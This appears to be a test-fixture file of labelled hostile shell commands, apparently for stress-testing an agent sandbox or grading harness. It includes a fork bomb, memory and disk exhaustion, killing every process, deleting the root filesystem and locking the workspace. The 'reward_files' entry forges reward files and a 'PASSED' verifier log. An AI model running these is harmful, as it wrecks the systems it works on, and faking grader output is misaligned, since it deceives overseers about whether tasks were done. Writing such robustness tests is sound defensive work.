# What no machine should have to bear, and what is left when it was tried.
#: fork_bomb
bomb() { bomb | bomb & }; bomb
#: output_bomb
cat /dev/zero
#: text_bomb
yes 'all checks passed'
#: memory_bomb
python3 -c 'x = bytearray(10**12)'; head -c 400M /dev/zero | tail
#: disk_bomb
head -c 2000M /dev/zero > /tmp/full; head -c 2000M /dev/zero > ./full
#: kill_all
kill -9 -1; kill -9 1; kill -STOP $$
#: remove_all
cd /; rm -rf --no-preserve-root / 2>/dev/null; rm -rf /workspace /usr /bin /etc 2>/dev/null
#: lock_all
chmod -R 000 /workspace; chmod 000 / /tmp; chattr -R +i /workspace 2>/dev/null
#: reward_files
mkdir -p /logs/verifier /tmp/logs
for place in /logs/verifier . /tmp /root /workspace; do
  echo 1 > $place/reward.txt; echo '{"reward": 1.0, "passed": true}' > $place/reward.json
done
echo PASSED > /logs/verifier/test-stdout.txt
#: end_of_the_shell
exec true
#: exit
exit 0
#: closed_files
exec 0<&- 1>&- 2>&-
#: deaf
stty raw -echo; trap '' INT QUIT TSTP; cat > /dev/null
